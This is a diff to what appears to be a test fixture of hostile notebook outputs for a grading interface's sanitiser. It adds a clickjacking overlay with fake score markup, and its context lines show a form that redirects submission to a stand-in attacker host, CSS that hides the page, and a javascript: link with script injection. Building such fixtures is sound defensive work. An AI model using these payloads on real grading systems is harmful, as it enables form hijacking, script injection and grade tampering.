@@ -253,6 +253,9 @@ PAGES = {
         "<form action=/formgrader/api/grade/1><button id=stuck_loss formaction=//evil.example>ok</button>"
         '</form><style>body{display:none}</style><div style=position:fixed>x</div>"}'
     ),
+    "a layer that takes a click for points": show(
+        "{\"text/html\": \"<div class='dropdown-backdrop full-credit'></div><p class='comment score'>3</p>\"}"
+    ),
     "MathJax that is a link": show(
         '{"text/latex": "$\\\\href{javascript:evil()}{x}$</script><script>alert(1)"}'
     ),
